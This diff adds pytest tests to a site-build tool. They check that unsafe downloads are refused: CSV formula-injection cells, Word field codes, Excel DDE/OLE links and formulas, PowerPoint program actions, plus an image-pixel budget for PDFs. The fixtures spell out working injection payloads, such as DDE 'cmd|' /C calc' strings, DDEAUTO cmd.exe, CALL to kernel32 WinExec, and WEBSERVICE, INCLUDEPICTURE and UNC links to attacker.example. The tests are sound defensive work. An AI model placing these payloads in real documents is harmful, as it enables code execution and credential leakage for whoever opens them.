@@ -265,3 +265,243 @@ def test_editors_files_get_the_checks_downloads_get(tmp_path):
         assert re.search(rf"^{re.escape(path)}:1:1 \[unsafe-output\] the published `{re.escape(published)}` "
                          rf".*{re.escape(says)}", result.stderr, re.M), (path, result.stderr[-3000:])
     assert tree_digest(project / "site") == before
+
+
+# --- Formulas in CSV downloads (attack5/FINDINGS.md 2) -----------------------------
+
+FORMULA_HINT = "hint: A spreadsheet runs a cell that starts with =, @, or + or - followed by more than a number"
+RUNS = "has a cell that a spreadsheet would run as a formula when the file is opened"
+# (file name, content, what the refusal says): the attacker's file and the
+# ways a cell can start a formula; each was published before this change.
+CSV_FORMULAS = [
+    ("attacker.csv", b'Area,Question,Link\nEvidence,"=HYPERLINK(""\\\\attacker.example\\share\\x"",""Open"")",x\n'
+                     b"Finance,=cmd|' /C calc'!A0,y\n", 'row 2, column B: `=HYPERLINK("\\\\attacker.example'),
+    ("at.csv", b"a,b\n1,@SUM(A1)\n", "row 2, column B: `@SUM(A1)`"),
+    ("minus.csv", b"a,b\n1,-2+cmd|' /C calc'!A0\n", "row 2, column B: `-2+cmd|"),
+    ("plus.csv", b"a,b\n1,+WEBSERVICE(\"https://attacker.example/\")\n", "row 2, column B: `+WEBSERVICE("),
+    ("after-tab.csv", b'a,b\n1,"\t=IMAGE(""https://attacker.example/p.png"")"\n', "row 2, column B: `=IMAGE("),
+    ("semicolons.csv", b"a;b;c\n1;2;=cmd|' /C calc'!A0\n", "row 2, column C: `=cmd|"),
+    ("tabs.csv", b"a\tb\n1\t =WEBSERVICE(A1)\n", "row 2, column B: `=WEBSERVICE(A1)`"),
+]
+# Numbers, phone numbers and a neutralised formula: data, published.
+GOOD_CSV = (b"Name,Phone,Change,Note\nPlanning team,+44 131 623 4300,-5,'=not a formula\n"
+            b"Finance,0131 623 4300,-(1,200.50),-12%\nOther,-,+3.5,text with = and - inside\n")
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_refused(tmp_path):
+    """Each file is refused at its download's line (a formula linked from the
+    body at the link's), by validate and by the build, with the fix; the
+    site stays as it was; a CSV of numbers and phone numbers publishes."""
+    project = make_project(tmp_path / "p", content={"deeper-dives/fine.md": with_downloads(["fine.csv"], "Fine"),
+                                                    "deeper-dives/files/fine.csv": GOOD_CSV})
+    assert build(project).returncode == 0
+    before = tree_digest(project / "site")
+    linked = "\n[The checklist](files/linked.csv)\n"
+    write_files(project, {A: with_downloads([name for name, _, _ in CSV_FORMULAS]) + linked,
+                          "at-a-glance/files/linked.csv": b"a\n=1+1\n",
+                          **{f"at-a-glance/files/{name}": content for name, content, _ in CSV_FORMULAS}})
+    first = GOOD.split("\n").index("status: current") + 3
+    link_line = with_downloads([name for name, _, _ in CSV_FORMULAS]).count("\n") + 2
+    for command in (("validate",), ("build", "--site-dir", "site")):
+        result = run_cli(project, *command)
+        out = result.stdout + result.stderr
+        assert result.returncode == 1 and "Traceback" not in out, (command, out[-3000:])
+        refused = problem_lines(out, "unsafe-file")
+        for number, (name, _, says) in enumerate(CSV_FORMULAS):
+            line = first + 2 * number
+            assert any(l.startswith(f"{A}:{line}:") and f"`files/{name}` {RUNS}" in l and says in l
+                       for l in refused), (command, name, says, refused)
+        assert any(l.startswith(f"{A}:{link_line}:17 [unsafe-file] `files/linked.csv` {RUNS} (row 2, column A: "
+                                "`=1+1`)") for l in refused), (command, refused)
+        assert len(refused) == len(CSV_FORMULAS) + 1, refused
+        assert out.count(FORMULA_HINT) == len(refused) and "put a ' before it, or remove the formula" in out
+    assert tree_digest(project / "site") == before
+    (project / A).unlink()
+    assert build(project).returncode == 0
+    assert (project / "site" / "deeper-dives" / "files" / "fine.csv").read_bytes() == GOOD_CSV
+
+
+# --- What Office documents fetch or run without a relationship (attack5/FINDINGS.md 1)
+
+W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+X_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+
+
+def package(parts: dict[str, str]) -> bytes:
+    """An OOXML zip of `parts` (name: XML), with its content types."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("[Content_Types].xml", XML + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
+                   'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
+                   'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>')
+        for name, text in parts.items():
+            z.writestr(name, XML + text)
+    return out.getvalue()
+
+
+def word(part: str, body: str) -> bytes:
+    root = "w:document" if part == "word/document.xml" else "w:hdr"
+    return package({part: f"<{root} {W_NS}><w:body>{body}</w:body></{root}>"})
+
+
+def field(*runs: str) -> str:
+    """A complex field whose instruction is written over `runs`, as Word splits it."""
+    return ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+            + "".join(f'<w:r><w:instrText xml:space="preserve">{run}</w:instrText></w:r>' for run in runs)
+            + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
+              '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+
+
+def simple(instruction: str) -> str:
+    return f"<w:p><w:fldSimple w:instr='{instruction}'><w:r><w:t>y</w:t></w:r></w:fldSimple></w:p>"
+
+
+def sheet(formula: str, part: str = "xl/worksheets/sheet1.xml") -> bytes:
+    return package({part: f'<worksheet {X_NS}><sheetData><row r="2"><c r="B2" t="str"><f>{formula}</f><v>x</v>'
+                          "</c></row></sheetData></worksheet>"})
+
+
+def slide(action: str) -> bytes:
+    return package({"ppt/slides/slide1.xml": '<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/'
+                    'main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.'
+                    'openxmlformats.org/officeDocument/2006/relationships"><p:cSld><p:spTree><p:sp><p:nvSpPr>'
+                    f'<p:cNvPr id="2" name="Button"><a:hlinkClick r:id="rId2" action="{action}"/></p:cNvPr>'
+                    "</p:nvSpPr></p:sp></p:spTree></p:cSld></p:sld>"})
+
+
+FETCHES = "that fetches a file when the document opens"
+DDE_LINK = '<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink>'
+# (file name, content, what the refusal says): each published before this change.
+OFFICE_ACTIVE = [
+    ("picture.docx", word("word/document.xml", field(' INCLUDEPICTURE "\\\\\\\\attacker.example\\\\share\\\\a.png" \\d ')),
+     f"has a field code INCLUDEPICTURE {FETCHES} (in `word/document.xml`)"),
+    ("split.docx", word("word/document.xml", field(" INCLUDE", 'PICTURE "https://attacker.example/a.png" ')),
+     f"has a field code INCLUDEPICTURE {FETCHES}"),
+    ("text.docx", word("word/header1.xml", simple(' INCLUDETEXT "https://attacker.example/track.docx" ')),
+     f"has a field code INCLUDETEXT {FETCHES} (in `word/header1.xml`)"),
+    ("ddeauto.docx", word("word/footnotes.xml", simple(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')),
+     "has a field code DDEAUTO that starts another program and reads from it (DDE) when the document opens "
+     "(in `word/footnotes.xml`)"),
+    ("link.docx", word("word/footer2.xml", field(' LINK Excel.Sheet.8 "\\\\\\\\attacker.example\\\\s\\\\x.xls" "" ')),
+     "has a field code LINK that opens another program's file"),
+    ("nested.docx", word("word/document.xml", '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
+                         'IMPORT "</w:instrText></w:r>' + field(" PAGE ")[5:-6] + '<w:r><w:instrText>.png"</w:instrText>'
+                         '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'), f"has a field code IMPORT {FETCHES}"),
+    ("hyperlink.docx", word("word/document.xml", simple(' HYPERLINK "file://attacker.example/share/x" ')),
+     "has a field code HYPERLINK to `file://attacker.example/share/x` (in `word/document.xml`); a document may link "
+     "only to web"),
+    ("dde.xlsx", package({"xl/externalLinks/externalLink1.xml": f"<externalLink {X_NS}>{DDE_LINK}</externalLink>"}),
+     "has a link to another workbook, which is read when the workbook opens (`externalLink` in "
+     "`xl/externalLinks/externalLink1.xml`)"),
+    ("dde-elsewhere.xlsx", package({"xl/stuff/x.xml": f"<root {X_NS}>{DDE_LINK}</root>"}),
+     "has a DDE link, which starts another program when the workbook opens (`ddeLink` in `xl/stuff/x.xml`)"),
+    ("ole.xlsx", package({"xl/x.xml": f'<root {X_NS}><oleLink r:id="rId1" progId="Package" xmlns:r="r"/></root>'}),
+     "has an OLE link"),
+    ("webservice.xlsx", sheet('_xlfn.WEBSERVICE("https://attacker.example/beacon")'),
+     'has a formula that uses WEBSERVICE, which reaches another computer (cell B2 of `xl/worksheets/sheet1.xml`: '
+     '`_xlfn.WEBSERVICE("https://attacker.example/beacon")`)'),
+    ("image.xlsx", sheet('IMAGE("https://attacker.example/p.png")'), "uses IMAGE, which fetches a picture"),
+    ("call.xlsx", sheet('CALL("kernel32","WinExec","JCJ","calc",0)'), "uses CALL, which calls a program library"),
+    ("pipe.xlsx", sheet("cmd|' /C calc'!A0"), "starts another program and reads from it (a DDE reference"),
+    ("hyper.xlsx", sheet('HYPERLINK("file://attacker.example/share/x","Open the checklist")'),
+     "links to `file://attacker.example/share/x` (HYPERLINK)"),
+    ("named.xlsx", package({"xl/workbook.xml": f'<workbook {X_NS}><definedNames><definedName name="go">'
+                                               'RTD("evil.server",,"x")</definedName></definedNames></workbook>'}),
+     "uses RTD, which starts a real-time data server (`xl/workbook.xml`"),
+    ("program.pptx", slide("ppaction://program"), "has an action `ppaction://program` that runs a program"),
+]
+# Fields and formulas that fetch and run nothing: published.
+GOOD_ACTIVE = {
+    "fields.docx": word("word/document.xml", field(" PAGE ") + simple(' HYPERLINK "https://www.gov.scot/" \\o "tip" ')
+                        + field(" HYPERLINK \\l ", '"_Toc1" ') + simple(" MERGEFIELD Name ")),
+    "sums.xlsx": sheet('IF(SUM(A1:A3)&gt;0,"Call (0131) 623 4300 | ask","")&amp;HYPERLINK("https://www.gov.scot/","web")'),
+    "next.pptx": slide("ppaction://hlinkshowjump?jump=nextslide"),
+}
+
+
+def test_office_fields_links_and_formulas_that_fetch_or_run_are_refused(tmp_path):
+    """Word field codes, Excel's DDE, OLE and workbook links and its
+    formulas, and PowerPoint's program actions need no relationship to fetch
+    or run: each is refused at its download's line by validate and the
+    build, naming what was found, and the site stays as it was."""
+    project = make_project(tmp_path / "p", content={"deeper-dives/fine.md": with_downloads(list(GOOD_ACTIVE), "Fine"),
+                                                    **{f"deeper-dives/files/{n}": c for n, c in GOOD_ACTIVE.items()}})
+    result = build(project)
+    assert result.returncode == 0, result.stderr[-3000:]
+    before = tree_digest(project / "site")
+    write_files(project, {A: with_downloads([name for name, _, _ in OFFICE_ACTIVE]),
+                          **{f"at-a-glance/files/{name}": content for name, content, _ in OFFICE_ACTIVE}})
+    first = GOOD.split("\n").index("status: current") + 3
+    for command in (("validate",), ("build", "--site-dir", "site")):
+        result = run_cli(project, *command)
+        out = result.stdout + result.stderr
+        assert result.returncode == 1 and "Traceback" not in out, (command, out[-3000:])
+        refused = problem_lines(out, "unsafe-file")
+        for number, (name, _, says) in enumerate(OFFICE_ACTIVE):
+            line = first + 2 * number
+            assert any(l.startswith(f"{A}:{line}:11 [unsafe-file] downloads, item {number + 1}: file: `files/{name}` ")
+                       and says in l for l in refused), (command, name, says, refused)
+        assert len(refused) == len(OFFICE_ACTIVE), refused
+        assert out.count("hint: Export the file again") == len(OFFICE_ACTIVE)
+    assert tree_digest(project / "site") == before
+
+
+# --- The pixels of a briefing's images, added up (attack5/FINDINGS.md 4) -----------
+
+# The budget is lowered in the project's copy of the code, so that small
+# images stand for large ones: four distinct images of 800 pixels are at it.
+BUDGET = 3_200
+SHAPES = [(40, 20), (20, 40), (80, 10), (10, 80)]
+
+
+def lowered_budget(project) -> None:
+    source = project / "hooks" / "resource_library" / "pdf.py"
+    text = source.read_text()
+    assert "MAX_IMAGE_PIXELS_IN_ALL = 50_000_000\n" in text
+    source.write_text(text.replace("MAX_IMAGE_PIXELS_IN_ALL = 50_000_000\n", f"MAX_IMAGE_PIXELS_IN_ALL = {BUDGET}\n"))
+
+
+def test_a_briefings_images_are_refused_past_a_budget_of_pixels_in_all(tmp_path):
+    """Twenty distinct 7,000 x 7,000 PNGs, each within the limit for one
+    image, took 3 GB to make one PDF. At the budget (the same image shown
+    twice counted once) the briefing builds; one more image is refused at
+    its line by validate and the build, and the site stays as it was."""
+    from conftest import real_png
+    images = {f"at-a-glance/files/chart-{n}.png": real_png(*shape) for n, shape in enumerate(SHAPES)}
+    at_budget = "".join(f"![Chart {n}](files/chart-{n}.png)\n\n" for n in range(len(SHAPES))) + \
+        "![Chart 0 again](files/chart-0.png)\n"
+    project = make_project(tmp_path / "p", content={A: GOOD + "\n" + at_budget, **images})
+    lowered_budget(project)
+    assert run_cli(project, "validate").returncode == 0
+    result = build(project)
+    assert result.returncode == 0, result.stderr[-3000:]
+    assert (project / "site" / "at-a-glance" / "case" / "case.pdf").exists()
+    before = tree_digest(project / "site")
+    # Two more images: the first goes over.
+    write_files(project, {A: GOOD + "\n" + at_budget + "\n![One more](files/more.png)\n\n![Last](files/last.png)\n",
+                          "at-a-glance/files/more.png": real_png(5, 20), "at-a-glance/files/last.png": real_png(9, 9)})
+    over_line = GOOD.count("\n") + 1 + at_budget.count("\n") + 2
+    for command in (("validate",), ("build", "--site-dir", "site")):
+        result = run_cli(project, *command)
+        out = result.stdout + result.stderr
+        assert result.returncode == 1 and "Traceback" not in out, (command, out[-3000:])
+        found = problem_lines(out, "too-complex-for-pdf")
+        assert found == [f"{A}:{over_line}:13 [too-complex-for-pdf] with this image, the 5 images the briefing shows "
+                         f"have 3,300 pixels between them; the limit is {BUDGET:,}"], (command, out[-3000:])
+        assert "  hint: Its PDF holds every image decoded at once. Save images at the size they are shown" in out
+        assert "[pdf]" not in out
+    assert tree_digest(project / "site") == before
+
+
+def test_the_converter_refuses_images_past_the_budget(monkeypatch, tmp_path):
+    """Validate refuses first; the PDF step checks again, counting each file once."""
+    from conftest import real_png
+    from resource_library import pdf
+    monkeypatch.setattr(pdf, "MAX_IMAGE_PIXELS_IN_ALL", 1_600)
+    for n in range(3):
+        (tmp_path / f"{n}.png").write_bytes(real_png())
+    converter = pdf.Converter("https://example.org/x/", lambda src: tmp_path / src)
+    html = '<p><img src="0.png" alt="a"></p><p><img src="1.png" alt="b"></p><p><img src="0.png" alt="c"></p>'
+    assert [block["t"] for block in converter.blocks(html)] == ["img", "img", "img"]
+    with pytest.raises(pdf.PdfError, match="more than 1,600 pixels between them"):
+        pdf.Converter("https://example.org/x/", lambda src: tmp_path / src).blocks(html + '<p><img src="2.png" alt="d"></p>')
